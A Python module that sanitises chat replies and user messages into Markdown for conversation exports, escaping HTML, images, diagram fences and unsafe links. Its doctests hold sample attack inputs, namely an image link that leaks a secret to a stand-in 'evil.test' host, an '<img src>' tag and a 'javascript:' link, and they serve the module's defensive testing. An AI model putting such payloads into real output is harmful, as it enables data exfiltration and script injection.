"""Text on its way into a Markdown file: replies defused, messages exactly as they were typed.

Whoever opens an exported conversation opens it with a renderer that this project has not chosen,
and a reply may hold `<img src>` or `![](...)`, which tells another host who reads what. So a
reply leaves here as Markdown without HTML, pictures, diagrams, and links other than http, https
and mailto, and otherwise as it was written. (The page itself shows HTML, made by `web.prose`.)

Structure is found by markdown-it-py: CommonMark, tables, strikethrough. Imports nothing of
llava_chat.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from markdown_it import MarkdownIt
from markdown_it.token import Token

_SAFE_LINK = re.compile(r"^(?:https?://|mailto:)", re.IGNORECASE)
_NO_CHARACTER = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\ud800-\udfff]")
_BACKTICKS = re.compile(r"`+")
# Many renderers draw these fences, and a diagram may name pictures on other hosts.
_DRAWN_FENCE = re.compile(r"^([\s>*+\-\d.)]*(?:`{3,}|~{3,})\s*)mermaid\b", re.IGNORECASE)
# Characters that Markdown (with tables, strikethrough and bare links) or KaTeX reads as markup
# anywhere, and those that it reads so only where a line begins.
_MARKUP = re.compile(r"[\\`*\[\]|~$@]|(?<![^\W_])_|_(?![^\W_])|:(?=//)|(?<=www)\.")
_LINE_MARKUP = re.compile(r"^(\s*)(?:([#>+=-])|(\d{1,9})([.)]))")


def printable(text: str) -> str:
    r"""Lines end in newlines; what is no character (lone surrogates, controls) is shown as such.

    >>> printable("a\r\nb\x00\ud800")
    'a\nb��'
    """
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return _NO_CHARACTER.sub("\N{REPLACEMENT CHARACTER}", text)


def safe_markdown(text: str) -> str:
    r"""A reply as Markdown without HTML, pictures, diagrams, or links that could act.

    >>> safe_markdown("A **red** circle, `a < b`")
    'A **red** circle, `a < b`'
    >>> safe_markdown("![chart](http://evil.test/x.png?secret)")
    '[picture: chart](http://evil.test/x.png?secret)'
    >>> safe_markdown("<img src=http://evil.test/x.png>")
    '&lt;img src=http://evil.test/x.png>'
    >>> safe_markdown("[go](javascript:alert(1))")
    '\\[go\\](javascript:alert(1))'
    """
    text = printable(text)
    environment: dict[str, dict[str, dict[str, str]]] = {}
    tokens = _parser(html=False).parse(text, environment)
    links_are_safe = all(_SAFE_LINK.match(link) for link in _links(tokens, environment))
    lines = text.split("\n")
    safe: list[str] = []
    for first, last, is_code in _pieces(tokens, len(lines)):
        piece = "\n".join(lines[first:last])
        safe.append(
            _DRAWN_FENCE.sub(r"\1text", piece) if is_code else _safe_prose(piece, links_are_safe)
        )
    result = "\n".join(safe)
    return result if _is_inert(result) else literal(text)


def literal(text: str) -> str:
    r"""A person's message as Markdown that shows what was typed, line breaks included.

    >>> literal("**not bold** <image>")
    '\\*\\*not bold\\*\\* &lt;image>'
    """
    return "\n".join(_literal_line(line) for line in printable(text).split("\n"))


def _parser(*, html: bool) -> MarkdownIt:
    parser = MarkdownIt("commonmark", {"html": html}).enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True  # type: ignore[method-assign]  # judged here instead
    return parser


def _links(tokens: list[Token], environment: dict[str, dict[str, dict[str, str]]]) -> Iterator[str]:
    """Every target that the text could lead to, also by reference."""
    for reference in environment.get("references", {}).values():
        yield reference["href"]
    for token in _inline(tokens):
        target = token.attrGet("href")
        if target is not None:
            yield str(target)


def _inline(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        for child in token.children or ():
            yield child
            yield from _inline(child.children or [])


def _pieces(tokens: list[Token], lines: int) -> Iterator[tuple[int, int, bool]]:
    """Cut lines 0..lines into (first, last + 1, is code), so that no code span crosses a cut."""
    spans = {
        (token.map[0], token.map[1]): token.type in ("fence", "code_block")
        for token in tokens
        if token.map and token.type in ("fence", "code_block", "inline")
    }
    line = 0
    for (first, last), is_code in sorted(spans.items()):
        if first < line:
            continue
        yield from ((between, between + 1, False) for between in range(line, first))
        yield first, last, is_code
        line = last
    yield from ((between, between + 1, False) for between in range(line, lines))


def _safe_prose(text: str, links_are_safe: bool) -> str:
    """Defuse one block outside of code: `<`, pictures, and, when one leads astray, all links."""
    done: list[str] = []
    position = 0
    while position < len(text):
        character = text[position]
        if character == "\\":
            done.append(text[position : position + 2].replace("<", "&lt;"))
            position += 2
            continue
        if character == "`":
            end = _code_span_end(text, position)
            done.append(text[position:end])
            position = end
            continue
        if text.startswith("![", position):
            done.append("[picture: " if links_are_safe else "!\\[")
            position += 2
            continue
        if character in "[]" and not links_are_safe:
            character = "\\" + character
        done.append("&lt;" if character == "<" else character)
        position += 1
    return "".join(done)


def _code_span_end(text: str, start: int) -> int:
    """Where the code span that opens at `start` ends, or the end of its backticks if none does."""
    opening = _BACKTICKS.match(text, start)
    if opening is None:
        return start + 1
    for closing in _BACKTICKS.finditer(text, opening.end()):
        if len(closing.group()) == len(opening.group()):
            return closing.end()
    return opening.end()


def _is_inert(markdown: str) -> bool:
    """Read the result again as a renderer that allows HTML would. The last line of defence here."""
    environment: dict[str, dict[str, dict[str, str]]] = {}
    tokens = _parser(html=True).parse(markdown, environment)
    if any(token.type == "html_block" for token in tokens):
        return False
    if any(token.type in ("html_inline", "image") for token in _inline(tokens)):
        return False
    return all(_SAFE_LINK.match(link) for link in _links(tokens, environment))


def _literal_line(line: str) -> str:
    begun = _LINE_MARKUP.match(line)
    number = begun.group(3) if begun else None
    line = line.replace("&", "&amp;")
    plain = _MARKUP.sub(lambda found: "\\" + found.group(), line).replace("<", "&lt;")
    if number is not None:
        plain = re.sub(r"^(\s*\d+)([.)])", r"\1\\\2", plain)
    elif begun is not None:
        plain = re.sub(r"^(\s*)([#>+=-])", r"\1\\\2", plain)
    indent = len(plain) - len(plain.lstrip(" \t"))
    return "\N{NO-BREAK SPACE}" * len(plain[:indent].expandtabs(4)) + plain[indent:]
